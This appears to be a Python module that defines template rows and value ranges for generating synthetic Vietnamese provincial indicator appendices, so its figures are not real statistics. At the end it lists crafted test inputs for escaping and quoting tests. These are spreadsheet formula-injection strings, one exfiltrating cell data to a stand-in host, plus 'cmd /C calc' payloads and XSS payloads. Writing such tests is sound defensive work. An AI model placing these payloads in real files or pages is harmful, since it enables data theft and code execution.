"""The indicator rows a generated appendix draws from, shaped like the seed report's appendix.

Each entry says how a row is printed (its marker), what it is called, its unit and how its
figures look (a value profile). The generator renumbers, drops and adds rows, so this is a
template, not a copy: the figures are always drawn afresh.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from decimal import Decimal


@dataclass(frozen=True)
class Profile:
    """How an indicator's figures look: range, printed decimals, and whether ratios are printed."""

    low: Decimal
    high: Decimal
    decimals: tuple[int, ...]
    ratios: bool = True
    cap: Decimal | None = None  # shares never exceed 100 %


def _profile(
    low: str, high: str, decimals: tuple[int, ...], ratios: bool = True, cap: str | None = None
) -> Profile:
    return Profile(Decimal(low), Decimal(high), decimals, ratios, Decimal(cap) if cap else None)


GROWTH = _profile("-5", "20", (2,), ratios=False)
SHARE = _profile("40", "99.9", (1, 2), cap="100")
SMALL_SHARE = _profile("1", "12", (1, 2), cap="100")
MONEY_PER_HEAD = _profile("20", "120", (1, 2))
TRADE = _profile("50", "2500", (0, 1))
BUDGET = _profile("300", "20000", (0, 3))
COUNT = _profile("0", "40", (0,))
HOUSEHOLDS = _profile("300", "6000", (0,))
PER_10K = _profile("8", "40", (1, 2))
INVESTMENT = _profile("-20", "30", (1,))


@dataclass(frozen=True)
class Entry:
    """A template row. ``style``: numbered, group, dash, plus (code in the TT cell), plus_name (``+ `` in
    the name cell), plain (no marker), dotted (``n.k``), inline (``Trong đó: X`` in the name cell).
    ``of_which``: a bare ``Trong đó:`` row is printed between this row and its children."""

    style: str
    name: str
    unit: str = ""
    profile: Profile | None = None
    children: tuple[Entry, ...] = field(default_factory=tuple)
    of_which: bool = False


def _leaf(style: str, name: str, unit: str, profile: Profile) -> Entry:
    return Entry(style, name, unit, profile)


SECTIONS: tuple[tuple[str, tuple[Entry, ...]], ...] = (
    (
        "Chỉ tiêu kinh tế",
        (
            Entry(
                "numbered",
                "Tốc độ tăng trưởng GRDP",
                "%",
                GROWTH,
                (
                    _leaf("dash", "Nông, lâm nghiệp, thủy sản", "%", GROWTH),
                    Entry(
                        "dash",
                        "Công nghiệp-xây dựng",
                        "%",
                        GROWTH,
                        (_leaf("plus", "Công nghiệp", "%", GROWTH), _leaf("plus", "Xây dựng", "%", GROWTH)),
                    ),
                    _leaf("dash", "Dịch vụ", "%", GROWTH),
                    _leaf("dash", "Thuế sản phẩm trừ trợ cấp sản phẩm", "%", GROWTH),
                ),
            ),
            _leaf("numbered", "GRDP bình quân đầu người", "Triệu đồng", MONEY_PER_HEAD),
            _leaf(
                "numbered",
                "Giá trị sản phẩm trồng trọt, nuôi trồng thủy sản trên 1 đơn vị diện tích (ha)",
                "Triệu đồng",
                MONEY_PER_HEAD,
            ),
            Entry(
                "numbered",
                "Tổng kim ngạch xuất nhập khẩu qua địa bàn (bao gồm cả giá trị hàng hóa giám sát)",
                "Triệu USD",
                TRADE,
                (
                    _leaf("dotted", "Kim ngạch nhập khẩu hàng hóa trên địa bàn", "Triệu USD", TRADE),
                    _leaf("dotted", "Kim ngạch xuất khẩu hàng hóa trên địa bàn", "Triệu USD", TRADE),
                    _leaf("dotted", "Giá trị hàng hóa Giám sát", "Triệu USD", TRADE),
                ),
                of_which=True,
            ),
            Entry(
                "numbered",
                "Thu Ngân sách Nhà nước trên địa bàn (không bao gồm số bổ sung từ NSTW)",
                "Tỷ đồng",
                BUDGET,
                (
                    _leaf("dash", "Thu thuế xuất, nhập khẩu", "Tỷ đồng", BUDGET),
                    Entry(
                        "dash",
                        "Thu nội địa",
                        "Tỷ đồng",
                        BUDGET,
                        (
                            _leaf("plus_name", "Thu từ tiền sử dụng đất", "Tỷ đồng", BUDGET),
                            _leaf("plus_name", "Thu từ xổ số kiến thiết", "Tỷ đồng", BUDGET),
                        ),
                        of_which=True,
                    ),
                ),
                of_which=True,
            ),
            _leaf("numbered", "Tổng vốn đầu tư toàn xã hội tăng thêm", "%", INVESTMENT),
            Entry(
                "group",
                "Giao thông",
                children=(
                    _leaf(
                        "plain",
                        "Tỷ lệ chiều dài các tuyến đường huyện, đường xã được nhựa hóa/ bê tông hóa mặt đường",
                        "%",
                        SHARE,
                    ),
                    _leaf(
                        "plain", "Tỷ lệ xã có đường đến trung tâm xã được nhựa hóa/ bê tông hóa", "%", SHARE
                    ),
                ),
            ),
        ),
    ),
    (
        "Chỉ tiêu văn hóa - xã hội",
        (
            _leaf("numbered", "Xây dựng trường chuẩn quốc gia tăng thêm", "Trường", COUNT),
            Entry(
                "group",
                "Y tế",
                children=(
                    _leaf("dash", "Số bác sỹ/1 vạn dân", "Bác sỹ", PER_10K),
                    _leaf("dash", "Tỷ lệ số xã đạt chuẩn quốc gia về y tế xã", "%", SHARE),
                    _leaf(
                        "dash",
                        "Số giường bệnh/1 vạn dân (không tính giường trạm y tế xã)",
                        "giường bệnh",
                        PER_10K,
                    ),
                    _leaf("dash", "Tỷ lệ dân số tham gia bảo hiểm y tế", "%", SHARE),
                ),
            ),
            Entry(
                "group",
                "Văn hóa",
                children=(
                    _leaf("dash", "Tỷ lệ gia đình văn hóa", "%", SHARE),
                    _leaf("dash", "Tỷ lệ cơ quan, đơn vị, doanh nghiệp đạt chuẩn VH", "%", SHARE),
                    _leaf("dash", "Tỷ lệ khu dân cư văn hóa", "%", SHARE),
                ),
            ),
            _leaf("numbered", "Giảm tỷ lệ hộ nghèo", "%", SMALL_SHARE),
            Entry(
                "group",
                "Lao động việc làm",
                children=(
                    Entry(
                        "dash",
                        "Tỷ lệ lao động qua đào tạo",
                        "%",
                        SHARE,
                        (_leaf("inline", "Tỷ lệ qua đào tạo nghề", "%", SHARE),),
                    ),
                    _leaf("dash", "Tỷ lệ thất nghiệp ở thành thị", "%", SMALL_SHARE),
                ),
            ),
            Entry(
                "group",
                "Xây dựng nông thôn mới",
                children=(
                    _leaf("dash", "Số xã điểm đạt từ 17-18 tiêu chí nông thôn mới tăng thêm", "xã", COUNT),
                    _leaf("dash", "Số xã được công nhận đạt chuẩn nông thôn mới", "xã", COUNT),
                ),
            ),
        ),
    ),
    (
        "Các chỉ tiêu về môi trường",
        (
            _leaf("numbered", "Tỷ lệ che phủ rừng", "%", SHARE),
            Entry(
                "group",
                "Sử dụng nước sạch, nước hợp vệ sinh",
                children=(
                    _leaf("dash", "Tỷ lệ dân cư thành thị được dùng nước sạch", "%", SHARE),
                    _leaf("dash", "Tỷ lệ dân cư nông thôn được dùng nước hợp vệ sinh", "%", SHARE),
                ),
            ),
            _leaf("numbered", "Số hộ chăn nuôi đưa gia súc ra khỏi gầm sàn tăng thêm", "hộ", HOUSEHOLDS),
            Entry(
                "group",
                "Xử lý chất thải, ô nhiễm môi trường",
                children=(
                    _leaf(
                        "plain",
                        "Tỷ lệ chất thải rắn sinh hoạt khu vực đô thị được xử lý đáp ứng yêu cầu về bảo vệ môi trường",
                        "%",
                        SHARE,
                    ),
                    _leaf("plain", "Tỷ lệ cơ sở gây ô nhiễm môi trường nghiêm trọng được xử lý", "%", SHARE),
                ),
            ),
        ),
    ),
)

# Rows a report of another province may add: components under an indicator or group, or whole
# indicators. Some units are outside reference/units.csv on purpose (a warning, never a failure).
EXTRA_COMPONENTS: tuple[tuple[str, str, Profile], ...] = (
    ("Tỷ lệ trẻ em dưới 5 tuổi suy dinh dưỡng thể thấp còi", "%", SMALL_SHARE),
    ("Tỷ lệ hộ gia đình được sử dụng điện lưới quốc gia", "%", SHARE),
    ("Số xã đạt tiêu chí quốc gia về y tế", "xã", COUNT),
    ("Tỷ lệ trường đạt chuẩn quốc gia", "%", SHARE),
    ("Thu từ khu vực doanh nghiệp nhà nước", "Tỷ đồng", BUDGET),
    ("Tỷ lệ thôn, xóm có nhà văn hóa", "%", SHARE),
    ("Số hộ thoát nghèo trong năm", "hộ", HOUSEHOLDS),
    ("Diện tích rừng trồng mới tập trung", "ha", HOUSEHOLDS),
)
EXTRA_INDICATORS: tuple[tuple[str, str, Profile], ...] = (
    ("Số doanh nghiệp thành lập mới", "Doanh nghiệp", HOUSEHOLDS),
    ("Tổng lượt khách du lịch", "Nghìn lượt", TRADE),
    ("Tỷ lệ đô thị hóa", "%", SHARE),
    ("Kim ngạch xuất khẩu hàng hóa của doanh nghiệp trên địa bàn", "Triệu USD", TRADE),
)

# Names a spreadsheet would run as formulas, for the downloads' quoting tests (no ``|``: it
# would split the Markdown cell).
FORMULA_NAMES: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
    "@SUM(1+1)+cmd /C calc",
    "+cmd /C calc",
    "-2+3+cmd /C calc",
)

# Crafted names for the site's escaping tests: (as printed in the report, as the package must hold
# it). Tags are stripped by extraction; a tag left open, quotes and entities are kept as text.
CRAFTED_NAMES: tuple[tuple[str, str], ...] = (
    ("Chỉ tiêu <script>alert('xss')</script> thử nghiệm", "Chỉ tiêu alert('xss') thử nghiệm"),
    (
        'Chỉ tiêu thử "><img src=x onerror=alert(1)//',
        'Chỉ tiêu thử "><img src=x onerror=alert(1)//',
    ),
    ("Chỉ tiêu ' onmouseover='alert(2) &lt;b&gt;", "Chỉ tiêu ' onmouseover='alert(2) &lt;b&gt;"),
    *((name, name) for name in FORMULA_NAMES),
)
